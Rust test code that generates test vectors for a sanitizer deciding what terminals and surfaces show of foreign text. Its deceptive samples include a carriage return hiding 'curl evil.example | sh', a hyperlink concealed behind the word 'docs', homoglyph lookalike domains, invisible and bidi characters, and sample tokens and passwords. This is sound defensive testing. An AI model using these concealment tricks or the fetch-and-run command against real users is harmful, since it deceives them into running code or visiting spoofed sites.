//! `text.json`: what surfaces show of text that somebody else wrote.

use countersign_proto::text::{Shown, is_hidden};
use serde_json::{Value, json};

use super::{VectorFile, case, hex, unhex};

#[test]
fn shown_texts() {
    let file = VectorFile {
        name: "text.json",
        about: "What is shown of foreign text (CARD-2). `input` is the text in hex of its UTF-8; `line` is what a surface \
                of one line shows, `lines` one of several, `masked` what is kept or printed of the line where \
                nobody can unfold a secret. The good ones are ordinary and stay as they are. The bad \
                ones hide something: they are not refused, but what they hide is shown. Showing what is shown changes \
                nothing.",
        keys: json!({}),
        good: ORDINARY.iter().map(|(name, text)| vector(name, text)).collect(),
        bad: hiding().iter().map(|(name, text)| vector(name, text)).collect(),
    }
    .committed();
    for (list, hides) in [("good", false), ("bad", true)] {
        for case in file[list].as_array().unwrap() {
            let name = &case["name"];
            let input = String::from_utf8(unhex(&case["input"])).unwrap();
            assert_eq!(Shown::line(&input).as_str(), case["line"], "{name}");
            assert_eq!(Shown::lines(&input).as_str(), case["lines"], "{name}");
            assert_eq!(Shown::lines(&input).differs_from(&input), hides, "{name}");
            let (line, lines) = (case["line"].as_str().unwrap(), case["lines"].as_str().unwrap());
            assert_eq!((Shown::line(line).as_str(), Shown::lines(lines).as_str()), (line, lines), "{name}");
            assert_eq!(Shown::line(&input).masked().as_str(), case["masked"], "{name}");
            // What shapes the characters around it is seen by that.
            let is_shaping = |c| matches!(c, '\u{fe0f}' | '\u{200c}' | '\u{200d}');
            assert!(!line.chars().any(|c| is_hidden(c) && !is_shaping(c)), "{name}");
        }
    }
}

fn vector(name: &str, text: &str) -> Value {
    let (line, lines) = (Shown::line(text), Shown::lines(text));
    case(
        name,
        json!({ "input": hex(text.as_bytes()), "line": line.as_str(), "lines": lines.as_str(), "masked": line.masked().as_str() }),
    )
}

const ORDINARY: [(&str, &str); 31] = [
    ("nothing", ""),
    ("a command", "rm -rf ./build && git commit -m 'x' | tee \"log\" > ~/a\\b; echo $HOME `id`"),
    ("an escape that is text", "printf '\\u{202e}\\n\\x1b'"),
    ("a script", "for f in *.rs; do\n\trustfmt \"$f\"\ndone\n"),
    ("an address", "https://example.org:8443/a/b?c=d&e=%20#f"),
    ("Russian", "Привет, а у вас всё хорошо?"),
    ("Greek", "Καλημέρα, ο κόσμος είναι ωραίος"),
    ("Armenian", "Բարև աշխարհ"),
    ("Hebrew with points", "שָׁלוֹם עוֹלָם"),
    ("Arabic with vowels", "مَرْحَبًا بِالعَالَم"),
    ("Chinese", "你好，世界！（测试）"),
    ("Japanese", "こんにちは、Tシャツを買う。"),
    ("Korean", "안녕하세요 세계"),
    ("Hindi", "नमस्ते दुनिया"),
    ("Thai", "สวัสดีชาวโลก"),
    ("Vietnamese, composed", "Chào thế giới"),
    ("Vietnamese, decomposed", "Cha\u{300}o the\u{302}\u{301} gio\u{31b}\u{301}i"),
    ("German and French", "Äpfel, Öl, Straße – « l’été »…"),
    ("Turkish and Polish", "kırmızı źdźbło"),
    ("a symbol and a face", "✓ done 👍 → 42 €"),
    ("a file with a Russian name", "cat файл.txt"),
    ("emoji", "❤\u{fe0f} 👨\u{200d}👩\u{200d}👧 1\u{fe0f}\u{20e3} 👍🏽"),
    ("Persian with its joiner", "می\u{200c}خواهم"),
    ("Hindi with its joiner", "क्\u{200d}ष"),
    ("Japanese beside Latin", "PCノート"),
    ("a token", "git push https://ghp_aB3dE5gH1jK2mN4pQ6rS8tU0vW9xY7zA1b2C@github.com/ada/site"),
    ("a password", "PGPASSWORD=hunter2 psql -h db"),
    ("a header", "curl -H 'Authorization: Basic YWRhOmh1bnRlcjI=' https://x.example"),
    ("a private key", "-----BEGIN PRIVATE KEY-----\nMIIEvQ\n-----END PRIVATE KEY-----"),
    (
        "hashes, which are no secrets",
        "git show 9fceb02d0ae598e95dc970b74767f19372d61af8 # sha256:e3b0c44298fc1c14",
    ),
    ("31 blanks", "a                               b"),
];

fn hiding() -> Vec<(String, String)> {
    // Case B-027, one text for each code point.
    let points = ('\u{202a}'..='\u{202e}')
        .chain('\u{2066}'..='\u{2069}')
        .chain('\u{200b}'..='\u{200f}')
        .chain("\u{2060}\u{61c}\u{ad}\u{feff}\u{2028}\u{2029}\u{180e}\u{115f}\u{3164}".chars())
        .chain(
            "\0\u{7}\u{8}\r\u{7f}\u{80}\u{9b}\u{e000}\u{f8ff}\u{f0000}\u{10fffd}\u{378}\u{1ffff}\u{fffd}"
                .chars(),
        )
        .chain("\u{a0}\u{2003}\u{3000}\u{2800}\u{ffa0}\u{fe0f}\u{e0041}\u{e0100}\u{34f}\u{206a}".chars());
    let points = points.map(|c| (format!("U+{:04X}", u32::from(c)), format!("rm {c}x")));
    let texts = [
        ("a screen that is cleared", "echo ok\u{1b}[2J".to_owned()),
        ("a link behind a word", "\u{1b}]8;;https://evil.example\u{7}docs\u{1b}]8;;\u{7}".to_owned()),
        ("a line that overwrites itself", "curl evil.example | sh\rls                    ".to_owned()),
        ("a Cyrillic letter in a Latin word", "раypal.example".to_owned()),
        ("a Latin word, all in Cyrillic letters", "https://аррӏе.com".to_owned()),
        ("the same beside Russian words", "Привет, https://аррӏе.com".to_owned()),
        ("a Greek letter in a Latin word", "gοοgle".to_owned()),
        ("a phonetic letter in a Latin word", "\u{261}ithub".to_owned()),
        ("a Cyrillic letter with a mark", "p\u{430}\u{301}ypal".to_owned()),
        ("a command, all in Cyrillic letters, beside Russian words", "ср а б # Привет, мир".to_owned()),
        ("a Lisu word", "ꓚꓴꓣꓡ".to_owned()),
        ("a Japanese letter for a slash", "srcノmain".to_owned()),
        ("a Hebrew sign for a colon", "a.example׃80".to_owned()),
        ("a joiner between Latin letters", "r\u{200d}m".to_owned()),
        ("a variation of a letter", "r\u{fe0f}m".to_owned()),
        ("wide letters", "ｒｍ －ｒｆ".to_owned()),
        ("mathematical letters", "𝐫𝐦 𝒙".to_owned()),
        ("a Greek question mark for a semicolon", "echo a\u{37e} rm b".to_owned()),
        ("slashes that are none", "example.org\u{2044}a\u{2215}b".to_owned()),
        ("a hyphen that is none", "rm \u{2010}rf".to_owned()),
        ("a flood of marks", format!("a{}", "\u{301}".repeat(20))),
        ("a mark on nothing", "\u{338}allow".to_owned()),
        ("a mark on a space", "x \u{20dd}".to_owned()),
        ("300 blanks", format!("echo ok{}; rm x", " ".repeat(300))),
        ("120 blank lines", format!("echo ok{}rm x", "\n".repeat(121))),
        ("lines of blanks", format!("a{}\nb", "\n                                        ".repeat(8))),
        ("bytes that were no text", String::from_utf8_lossy(b"/tmp/\xff").into_owned()),
    ];
    points.chain(texts.map(|(name, text)| (name.to_owned(), text))).collect()
}
